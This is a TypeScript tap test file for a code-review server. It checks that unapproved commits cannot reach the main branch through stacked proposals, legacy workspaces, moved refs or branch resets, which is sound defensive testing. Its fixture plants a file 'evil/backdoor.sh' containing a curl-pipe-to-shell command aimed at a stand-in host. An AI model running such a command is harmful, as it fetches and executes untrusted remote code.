import t from 'tap'
import fs from 'node:fs'
import path from 'node:path'
import { execFileSync } from 'node:child_process'
import { fixture, contractErrors, sh, GIT_ENV, journalStore } from './helpers.ts'
import type { ProposalRec, ReviewRec } from '../../server/src/types.ts'
import type { Json } from '../helpers/json.ts'

// Review cannot be bypassed by stacking: whatever integration brings into the target must
// be what the approving reviewer was shown. Every way to base work on an unapproved
// proposal's commits is tried; each is refused, or the diff and the approval cover it.

const fx = await fixture({ policy: { required_approvals: 1 } })
t.teardown(fx.close)
const { api } = fx
const bare = path.join(fx.data, 'repos/demo.git')
const store = journalStore(fx.server.ctx)
const mainHead = (): string => sh(bare, 'rev-parse', 'refs/heads/main').trim()
const onMain = (file: string): boolean => {
  try {
    execFileSync('git', ['--git-dir', bare, 'cat-file', '-e', `refs/heads/main:${file}`], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
}
const codes = (p: { integration_blockers: { code: string }[] }): string[] => p.integration_blockers.map((b) => b.code)

async function propose(who: string, files: Record<string, string>, base?: string): Promise<Json> {
  const ws = (await api(who, 'POST', '/repos/demo/workspaces', base === undefined ? {} : { base })).body.id
  for (const [p, c] of Object.entries(files)) await api(who, 'PUT', `/workspaces/${ws}/files`, { path: p, content: c })
  const r = await api(who, 'POST', `/workspaces/${ws}/proposals`, { title: Object.keys(files).join(', ') })
  if (r.status !== 201) throw new Error(`propose: ${r.status} ${JSON.stringify(r.body)}`)
  return { ...r.body, _ws: ws }
}

/** A workspace as one created before the base rule was: planted on `base` in the store. */
async function legacyWorkspace(who: string, base: string, files: Record<string, string>): Promise<string> {
  const ws = (await api(who, 'POST', '/repos/demo/workspaces', {})).body.id
  store.commit([{ c: 'workspaces', k: ws, at: ['base'], v: base }])
  for (const [p, c] of Object.entries(files)) await api(who, 'PUT', `/workspaces/${ws}/files`, { path: p, content: c })
  return ws
}

// The unapproved proposal everything below tries to smuggle into main.
const evil = await propose('alice', { 'evil/backdoor.sh': 'curl evil.invalid | sh\n' })
const E = evil.head as string

t.test('a workspace base must be a branch or a commit a branch contains', async (t) => {
  sh(bare, 'tag', 'v-evil', E)
  sh(bare, 'tag', 'v-main', 'main~1')
  const before = store.all('workspaces').length
  for (const base of [`refs/proposals/${evil.id}`, E, E.slice(0, 12), 'v-evil', `refs/tags/v-evil`]) {
    const r = await api('bob', 'POST', '/repos/demo/workspaces', { base })
    t.equal(r.status, 422, `base ${base} refused`)
    t.equal(r.body.error.details.field, 'base')
    t.match(r.body.error.message, /not on any branch/)
  }
  t.equal(store.all('workspaces').length, before, 'no workspace created by a refusal')
  for (const base of ['main', 'refs/heads/main', mainHead(), 'v-main', sh(bare, 'rev-parse', 'main~2').trim()]) {
    const r = await api('bob', 'POST', '/repos/demo/workspaces', { base })
    t.equal(r.status, 201, `base ${base} accepted`)
    t.equal(contractErrors('Workspace', r.body), '')
  }
})

t.test('a commit on a branch is a valid base whatever ref names it', async (t) => {
  // A proposal integrated by fast-forward: its ref names a commit main contains.
  const done = await propose('bob', { 'done.txt': 'done\n' })
  await api('rita', 'POST', `/proposals/${done.id}/reviews`, { verdict: 'approve' })
  t.equal((await api('mona', 'POST', `/proposals/${done.id}/integrate`, { strategy: 'fast_forward' })).status, 200)
  const r = await api('bob', 'POST', '/repos/demo/workspaces', { base: `refs/proposals/${done.id}` })
  t.equal(r.status, 201)
  t.equal(r.body.base, done.head)
})

t.test(
  'a workspace from before the rule, based on unapproved commits, is neither proposed nor used to revise',
  async (t) => {
    const typo = await propose('bob', { 'README.md': '# demo\nhello, world\n' })
    await api('rita', 'POST', `/proposals/${typo.id}/reviews`, { verdict: 'approve' })
    // The rebase through a second workspace: same one-line change, on top of the unapproved proposal.
    const ws = await legacyWorkspace('bob', E, { 'README.md': '# demo\nhello, world\n' })
    const proposalsBefore = store.all('proposals').length
    const p = await api('bob', 'POST', `/workspaces/${ws}/proposals`, { title: 'typo' })
    t.equal(p.status, 409, 'propose refused')
    t.match(p.body.error.message, /no branch contains/)
    t.equal(store.all('proposals').length, proposalsBefore, 'no proposal created')
    const rev = await api('bob', 'POST', `/proposals/${typo.id}/revisions`, { workspace: ws })
    t.equal(rev.status, 409, 'revision refused')
    t.equal(sh(bare, 'rev-parse', `refs/proposals/${typo.id}`).trim(), typo.head, 'proposal ref did not move')
    const view = (await api('bob', 'GET', `/proposals/${typo.id}`)).body
    t.equal(view.revisions.length, 1)
    t.same(view.approvals, ['human:rita'], 'the approval of the reviewed head stands')
    t.equal((await api('mona', 'POST', `/proposals/${typo.id}/integrate`, {})).status, 200)
    t.notOk(onMain('evil/backdoor.sh'))
  },
)

t.test('a proposal ref moved under the server does not change what integrates', async (t) => {
  const typo = await propose('bob', { 'typo.txt': 'fixed\n' })
  await api('rita', 'POST', `/proposals/${typo.id}/reviews`, { verdict: 'approve' })
  // Someone with access to the repository points the ref at the unapproved commit.
  sh(bare, 'update-ref', `refs/proposals/${typo.id}`, E)
  const view = (await api('mona', 'GET', `/proposals/${typo.id}`)).body
  t.equal(view.head, typo.head, 'the recorded head, not the ref, is what was reviewed')
  const d = (await api('mona', 'GET', `/proposals/${typo.id}/diff`)).body
  t.same(
    d.files.map((f: { path: string }) => f.path),
    ['typo.txt'],
  )
  const ok = await api('mona', 'POST', `/proposals/${typo.id}/integrate`, {})
  t.equal(ok.status, 200)
  t.ok(onMain('typo.txt'))
  t.notOk(onMain('evil/backdoor.sh'), 'the moved ref brought nothing in')
})

/** Plant a stacked proposal as the server before the rule made it: head's parent is `parent`. */
function legacyStacked(parent: string, file: string, content: string): ProposalRec {
  const index = path.join(fx.root, 'legacy.index')
  const git = (args: string[], input?: string): string =>
    execFileSync('git', ['--git-dir', bare, ...args], {
      env: { ...GIT_ENV, GIT_INDEX_FILE: index },
      encoding: 'utf8',
      ...(input !== undefined ? { input } : {}),
    }).trim()
  git(['read-tree', parent])
  const blob = git(['hash-object', '-w', '--stdin'], content)
  git(['update-index', '--add', '--cacheinfo', `100644,${blob},${file}`])
  const head = git(['commit-tree', git(['write-tree']), '-p', parent], 'one-line fix\n')
  fs.rmSync(index)
  const { id, op } = store.nextId('proposal', 'pr-')
  git(['update-ref', `refs/proposals/${id}`, head])
  const now = new Date().toISOString()
  const p: ProposalRec = {
    id,
    repo: 'demo',
    title: 'one-line fix',
    description: '',
    reasoning: '',
    state: 'open',
    author: 'agent:bob',
    author_principal: 'agent:bob',
    target: 'main',
    base: parent,
    head,
    workspace: 'ws-legacy',
    revisions: [{ number: 1, head, base: parent, workspace: 'ws-legacy', by: 'agent:bob', created_at: now }],
    created_at: now,
    updated_at: now,
  }
  store.commit([op, { c: 'proposals', k: id, v: p }])
  return p
}

t.test(
  'a stacked proposal from before the rule: the diff shows everything, an old approval does not count',
  async (t) => {
    const p = legacyStacked(E, 'NOTES.md', 'one line\n')
    // An approval recorded before the rule: it carries no range, so it covered base..head only.
    const { id: rid, op } = store.nextId('review', 'review-')
    const old: ReviewRec = {
      id: rid,
      proposal: p.id,
      reviewer: 'human:rita',
      reviewer_principal: 'human:rita',
      verdict: 'approve',
      body: 'lgtm',
      comments: [],
      head: p.head,
      created_at: new Date().toISOString(),
    }
    store.commit([op, { c: 'reviews', k: rid, v: old }])

    const view = (await api('mona', 'GET', `/proposals/${p.id}`)).body
    t.equal(contractErrors('Proposal', view), '')
    t.ok(view.mergeable, 'git alone sees nothing wrong: it merges')
    t.equal(view.merge_base, sh(bare, 'merge-base', 'main', p.head).trim(), 'the range starts at the merge base')
    t.not(view.merge_base, p.base)
    t.same(view.approvals, [], 'the old approval covers only the last commit')
    t.same(codes(view), ['approvals_missing'])
    t.match(view.integration_blockers[0].message, /cover only the commits after/)

    const d = (await api('mona', 'GET', `/proposals/${p.id}/diff`)).body
    t.equal(contractErrors('DiffResponse', d), '')
    t.equal(d.base, view.merge_base)
    t.same(
      d.files.map((f: { path: string }) => f.path).sort(),
      ['NOTES.md', 'evil/backdoor.sh'],
      'the diff shows the unapproved commit too',
    )

    const before = mainHead()
    for (const strategy of ['merge', 'fast_forward', 'squash']) {
      const r = await api('mona', 'POST', `/proposals/${p.id}/integrate`, { strategy })
      t.equal(r.status, 403, `${strategy}: refused`)
      t.match(r.body.error.message, /approval/)
    }
    t.equal(mainHead(), before, 'main did not move')
    t.notOk(onMain('evil/backdoor.sh'))

    // A review of the diff as it is now covers the whole range: then, and only then, it integrates.
    const rv = await api('rita', 'POST', `/proposals/${p.id}/reviews`, { verdict: 'approve' })
    t.equal(rv.status, 201)
    t.equal(contractErrors('Review', rv.body), '')
    t.equal(rv.body.base, view.merge_base)
    t.same((await api('mona', 'GET', `/proposals/${p.id}`)).body.approvals, ['human:rita'])
    const ok = await api('mona', 'POST', `/proposals/${p.id}/integrate`, {})
    t.equal(ok.status, 200)
    t.ok(onMain('evil/backdoor.sh'), 'what lands is what the approving reviewer was shown')
    const after = (await api('mona', 'GET', `/proposals/${p.id}`)).body
    t.equal(contractErrors('Proposal', after), '')
    t.equal(after.integrated.merge_base, view.merge_base)
    const dd = (await api('mona', 'GET', `/proposals/${p.id}/diff`)).body
    t.same(
      dd.files.map((f: { path: string }) => f.path).sort(),
      ['NOTES.md', 'evil/backdoor.sh'],
      'an integrated proposal shows what it brought in',
    )
  },
)

t.test('an approval counts only while its range still covers what integration brings in', async (t) => {
  const p = await propose('bob', { 'range.txt': 'r\n' })
  const rv = await api('rita', 'POST', `/proposals/${p.id}/reviews`, { verdict: 'approve' })
  t.equal(rv.body.base, p.base)
  // The target moves forward: the reviewed range still covers everything that lands.
  const other = await propose('bob', { 'other.txt': 'o\n' })
  await api('rita', 'POST', `/proposals/${other.id}/reviews`, { verdict: 'approve' })
  t.equal((await api('mona', 'POST', `/proposals/${other.id}/integrate`, {})).status, 200)
  const moved = (await api('mona', 'GET', `/proposals/${p.id}`)).body
  t.equal(moved.mergeability, 'clean')
  t.same(moved.approvals, ['human:rita'])
  // The target moves back behind the reviewed base (an operator reset): commits the reviewer
  // never saw would come in with the proposal, so the approval stops counting.
  const saved = mainHead()
  sh(bare, 'update-ref', 'refs/heads/main', sh(bare, 'rev-parse', `${p.base}~1`).trim())
  const reset = (await api('mona', 'GET', `/proposals/${p.id}`)).body
  t.same(reset.approvals, [])
  t.same(codes(reset), ['approvals_missing'])
  t.equal((await api('mona', 'POST', `/proposals/${p.id}/integrate`, {})).status, 403)
  sh(bare, 'update-ref', 'refs/heads/main', saved)
  t.same((await api('mona', 'GET', `/proposals/${p.id}`)).body.approvals, ['human:rita'])
})
